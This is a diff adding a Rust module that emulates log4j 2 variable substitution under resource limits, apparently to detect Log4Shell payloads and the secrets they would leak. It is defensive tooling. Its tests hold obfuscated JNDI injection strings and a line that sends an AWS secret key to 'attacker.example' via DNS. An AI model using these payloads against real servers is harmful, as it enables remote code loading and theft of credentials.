@@ -1,0 +1,398 @@
+//! The log4j 2 `StrSubstitutor` grammar: `${...}` with nesting, `$$` escapes, `:-` defaults and
+//! recursive substitution of values, evaluated under hard limits because the input is hostile.
+//!
+//! The rules follow log4j 2.14 (the exploitable versions):
+//! - the name between `${` and its matching `}` is substituted first, in a fresh context;
+//! - the first `:-` in the substituted name splits off a default value;
+//! - a resolved value (or default) is substituted again, and a name that recurs in that chain is
+//!   the infinite loop of CVE-2021-45105;
+//! - `$${` is an escape: one `$` is dropped and the `${` stays literal;
+//! - an unresolvable lookup without default stays in the output as its original text;
+//! - a `${` without a matching `}` ends substitution, leaving the rest literal.
+
+use super::lookup::{self, Exfiltration, Outcome};
+
+/// Hard limits on one evaluation, all attacker-controlled dimensions.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Limits {
+    /// Deepest nesting of substitutions (names inside names, values re-substituted).
+    pub max_depth: usize,
+    /// Lookups evaluated per evaluation, on top of one per `${` in the input.
+    pub max_lookups: usize,
+    /// Largest intermediate or final string, in bytes.
+    pub max_output: usize,
+}
+
+impl Default for Limits {
+    fn default() -> Self {
+        Self {
+            max_depth: 48,
+            max_lookups: 4096,
+            max_output: 256 * 1024,
+        }
+    }
+}
+
+/// Why an evaluation stopped early; each one is a denial-of-service shape.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) enum Abort {
+    /// A name recurred in its own resolution chain (CVE-2021-45105).
+    Cycle(String),
+    /// Nesting went past `Limits::max_depth`.
+    Depth,
+    /// More lookups than `Limits::max_lookups` allows.
+    Lookups,
+    /// A string grew past `Limits::max_output`.
+    Output,
+}
+
+impl std::fmt::Display for Abort {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Abort::Cycle(name) => write!(f, "infinite recursion on `{name}` (CVE-2021-45105)"),
+            Abort::Depth => f.write_str("lookup nesting deeper than the limit"),
+            Abort::Lookups => f.write_str("more lookups than the limit"),
+            Abort::Output => f.write_str("substituted text larger than the limit"),
+        }
+    }
+}
+
+/// One `jndi` lookup met during evaluation.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct JndiCall {
+    /// The substituted name, e.g. `ldap://evil.example:1389/a`.
+    pub name: String,
+    /// Victim state the name would carry out.
+    pub exfiltration: Vec<Exfiltration>,
+}
+
+/// Everything an evaluation found.
+#[derive(Debug, Default)]
+pub(crate) struct Evaluation {
+    /// The substituted text; partial when `abort` is set.
+    pub output: String,
+    /// Distinct `jndi` lookups, in order of evaluation.
+    pub jndi: Vec<JndiCall>,
+    /// Set when a limit or a recursion stopped the evaluation.
+    pub abort: Option<Abort>,
+}
+
+/// Evaluates `input` as log4j 2 would substitute a logged message.
+pub(crate) fn evaluate(input: &str, limits: &Limits) -> Evaluation {
+    let mut state = State {
+        limits,
+        // Every `${` written in the input may run once; only what evaluation itself creates
+        // (decoded base64, escaped `$${`, defaults) is charged against the limit.
+        lookups_left: limits.max_lookups
+            + memchr::memmem::find_iter(input.as_bytes(), b"${").count(),
+        exfiltration: Vec::new(),
+        jndi: Vec::new(),
+    };
+    let mut prior = Vec::new();
+    let (output, abort) = match state.substitute(input, 0, &mut prior) {
+        Ok(output) => (output, None),
+        Err(abort) => (String::new(), Some(abort)),
+    };
+    Evaluation {
+        output,
+        jndi: state.jndi,
+        abort,
+    }
+}
+
+/// Substitutes `name` alone (the inside of `${...}`), for naming what is left unresolved.
+pub(crate) fn substitute_name(name: &str, limits: &Limits) -> String {
+    let evaluation = evaluate(name, limits);
+    if evaluation.abort.is_some() {
+        name.to_string()
+    } else {
+        evaluation.output
+    }
+}
+
+struct State<'l> {
+    limits: &'l Limits,
+    lookups_left: usize,
+    /// Every exfiltrating lookup met, in order; `JndiCall`s take the ones met inside their name.
+    exfiltration: Vec<Exfiltration>,
+    jndi: Vec<JndiCall>,
+}
+
+/// Index of the `}` closing the `${` whose content starts at `from`, counting nested `${`.
+fn matching_close(bytes: &[u8], from: usize) -> Option<usize> {
+    let mut nested = 0usize;
+    let mut i = from;
+    while let Some(offset) = memchr::memchr2(b'$', b'}', &bytes[i..]) {
+        let at = i + offset;
+        if bytes[at] == b'$' {
+            if bytes.get(at + 1) == Some(&b'{') {
+                nested += 1;
+                i = at + 2;
+            } else {
+                i = at + 1;
+            }
+        } else if nested == 0 {
+            return Some(at);
+        } else {
+            nested -= 1;
+            i = at + 1;
+        }
+    }
+    None
+}
+
+impl State<'_> {
+    fn substitute(
+        &mut self,
+        input: &str,
+        depth: usize,
+        prior: &mut Vec<String>,
+    ) -> Result<String, Abort> {
+        if depth > self.limits.max_depth {
+            return Err(Abort::Depth);
+        }
+        let bytes = input.as_bytes();
+        let mut out = String::with_capacity(input.len());
+        let mut copied = 0;
+        let mut pos = 0;
+        while let Some(offset) = memchr::memmem::find(&bytes[pos..], b"${") {
+            let start = pos + offset;
+            out.push_str(&input[copied..start]);
+            copied = start;
+            // The escape is judged on the text as it stands, so a `$` ending an earlier value
+            // escapes too; it only counts inside this substitution's own region.
+            if out.ends_with('$') {
+                // Dropping the `$` of `${` keeps exactly one `$` before the `{`, as log4j does.
+                copied = start + 1;
+                pos = start + 1;
+                continue;
+            }
+            let Some(close) = matching_close(bytes, start + 2) else {
+                break;
+            };
+            let expression = &input[start + 2..close];
+            let value = self.variable(expression, depth, prior)?;
+            match value {
+                Some(value) => out.push_str(&value),
+                None => out.push_str(&input[start..=close]),
+            }
+            if out.len() > self.limits.max_output {
+                return Err(Abort::Output);
+            }
+            copied = close + 1;
+            pos = close + 1;
+        }
+        out.push_str(&input[copied..]);
+        if out.len() > self.limits.max_output {
+            return Err(Abort::Output);
+        }
+        Ok(out)
+    }
+
+    /// Resolves one `${expression}`: `None` when it stays literal.
+    fn variable(
+        &mut self,
+        expression: &str,
+        depth: usize,
+        prior: &mut Vec<String>,
+    ) -> Result<Option<String>, Abort> {
+        let leaks_before = self.exfiltration.len();
+        let substituted;
+        let name_expression = if expression.contains('$') {
+            substituted = self.substitute(expression, depth + 1, &mut Vec::new())?;
+            substituted.as_str()
+        } else {
+            expression
+        };
+        let (name, default) = match name_expression.find(":-") {
+            Some(at) => (&name_expression[..at], Some(&name_expression[at + 2..])),
+            None => (name_expression, None),
+        };
+        if prior.iter().any(|p| p == name) {
+            return Err(Abort::Cycle(name.to_string()));
+        }
+        self.lookups_left = self.lookups_left.checked_sub(1).ok_or(Abort::Lookups)?;
+        let resolved = match lookup::evaluate(name) {
+            Outcome::Value(value) => Some(value),
+            Outcome::Jndi(jndi_name) => {
+                let mut exfiltration: Vec<Exfiltration> = Vec::new();
+                for leak in &self.exfiltration[leaks_before..] {
+                    if !exfiltration.contains(leak) {
+                        exfiltration.push(leak.clone());
+                    }
+                }
+                let call = JndiCall {
+                    name: jndi_name,
+                    exfiltration,
+                };
+                if !self.jndi.contains(&call) {
+                    self.jndi.push(call);
+                }
+                None
+            }
+            // With a default the attacker expects the lookup to miss; without one it leaks.
+            Outcome::Unresolved(Some(leak)) if default.is_none() => {
+                self.exfiltration.push(leak);
+                None
+            }
+            Outcome::Unresolved(_) => None,
+        };
+        let Some(value) = resolved.or_else(|| default.map(str::to_string)) else {
+            return Ok(None);
+        };
+        prior.push(name.to_string());
+        let result = self.substitute(&value, depth + 1, prior);
+        prior.pop();
+        result.map(Some)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use base64::Engine as _;
+    use base64::engine::general_purpose::STANDARD;
+
+    use super::*;
+
+    fn eval(input: &str) -> Evaluation {
+        evaluate(input, &Limits::default())
+    }
+
+    fn jndi_names(input: &str) -> Vec<String> {
+        eval(input).jndi.into_iter().map(|call| call.name).collect()
+    }
+
+    #[test]
+    fn plain_jndi() {
+        assert_eq!(
+            jndi_names("x ${jndi:ldap://evil.example:1389/a} y"),
+            ["ldap://evil.example:1389/a"]
+        );
+        let evaluation = eval("${jndi:ldap://a/b}");
+        assert_eq!(
+            evaluation.output, "${jndi:ldap://a/b}",
+            "an unresolved lookup stays literal"
+        );
+    }
+
+    #[test]
+    fn nested_case_and_default_obfuscation() {
+        assert_eq!(
+            jndi_names("${${lower:j}${upper:n}${::-d}i:${lower:l}dap://x.y/z}"),
+            ["ldap://x.y/z"]
+        );
+        assert_eq!(
+            jndi_names("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://a.b/c}"),
+            ["ldap://a.b/c"]
+        );
+        assert_eq!(
+            jndi_names("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://a/b}"),
+            ["ldap://a/b"]
+        );
+        assert_eq!(jndi_names("${${any:thing:-j}ndi:rmi://h/p}"), ["rmi://h/p"]);
+        assert_eq!(
+            jndi_names("${${date:'j'}${date:'ndi'}:dns://h}"),
+            ["dns://h"]
+        );
+        assert_eq!(
+            jndi_names("${${base64:am5kaQ==}:ldap://h/p}"),
+            ["ldap://h/p"]
+        );
+        assert_eq!(
+            jndi_names("${base64:JHtqbmRpOmxkYXA6Ly9oL3B9}"),
+            ["ldap://h/p"]
+        );
+        assert_eq!(
+            jndi_names("${${upper:jnd\u{131}}:ldap://h/p}"),
+            ["ldap://h/p"]
+        );
+        assert_eq!(jndi_names("${${:-j}ndi:ldap://h}"), ["ldap://h"]);
+    }
+
+    #[test]
+    fn defaults_resolve_and_unknowns_stay_literal() {
+        assert_eq!(eval("${::-j}").output, "j");
+        assert_eq!(eval("${env:X:-j}").output, "j");
+        assert_eq!(eval("${any:thing:-x}").output, "x");
+        assert_eq!(eval("${date:'j'}").output, "j");
+        assert_eq!(
+            eval("port ${server.port} home ${HOME}").output,
+            "port ${server.port} home ${HOME}"
+        );
+        assert_eq!(eval("${foo:${lower:X}}").output, "${foo:${lower:X}}");
+        assert_eq!(
+            eval("price $5 and $$ and $").output,
+            "price $5 and $$ and $"
+        );
+    }
+
+    #[test]
+    fn escapes_and_unclosed() {
+        assert_eq!(eval("$${lower:X}").output, "${lower:X}");
+        assert!(
+            eval("$${jndi:ldap://a/b}").jndi.is_empty(),
+            "escaped lookups do not run"
+        );
+        assert_eq!(
+            eval("${lower:A} ${unclosed ${lower:B}").output,
+            "a ${unclosed ${lower:B}"
+        );
+    }
+
+    #[test]
+    fn exfiltration_inside_jndi_name() {
+        let evaluation = eval("${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}");
+        let call = &evaluation.jndi[0];
+        assert_eq!(
+            call.name,
+            "dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example"
+        );
+        assert_eq!(call.exfiltration[0].lookup, "env");
+        assert_eq!(call.exfiltration[0].key, "AWS_SECRET_ACCESS_KEY");
+        let with_default = eval("${jndi:ldap://${env:X:-y}.a/b}");
+        assert!(with_default.jndi[0].exfiltration.is_empty());
+        let host = eval("${jndi:ldap://${hostName}.${sys:user.name}.a/b}");
+        assert_eq!(host.jndi[0].exfiltration.len(), 2);
+    }
+
+    #[test]
+    fn cve_2021_45105_self_reference_is_a_cycle() {
+        let evaluation = eval("${${::-${::-$${::-j}}}}");
+        assert_eq!(evaluation.abort, Some(Abort::Cycle(":".into())));
+        assert!(eval("${::-${::-j}}").abort.is_none());
+        assert!(
+            eval("${${::-j}${::-n}${::-d}${::-i}:x}").abort.is_none(),
+            "siblings are no cycle"
+        );
+    }
+
+    #[test]
+    fn limits_stop_hostile_shapes() {
+        let deep = format!("{}x{}", "${".repeat(500), "}".repeat(500));
+        assert_eq!(eval(&deep).abort, Some(Abort::Depth));
+        let small = Limits {
+            max_output: 64,
+            ..Limits::default()
+        };
+        let big = format!("${{::-{}}}", "a".repeat(100));
+        assert_eq!(evaluate(&big, &small).abort, Some(Abort::Output));
+        let few = Limits {
+            max_lookups: 2,
+            ..Limits::default()
+        };
+        assert!(
+            evaluate(&"${::-a}".repeat(10), &few).abort.is_none(),
+            "written lookups are free"
+        );
+        let amplified = format!("${{base64:{}}}", STANDARD.encode("${::-a}".repeat(10)));
+        assert_eq!(evaluate(&amplified, &few).abort, Some(Abort::Lookups));
+    }
+
+    #[test]
+    fn names_of_leftovers() {
+        assert_eq!(
+            substitute_name("en${lower:V}:USER", &Limits::default()),
+            "env:USER"
+        );
+    }
+}
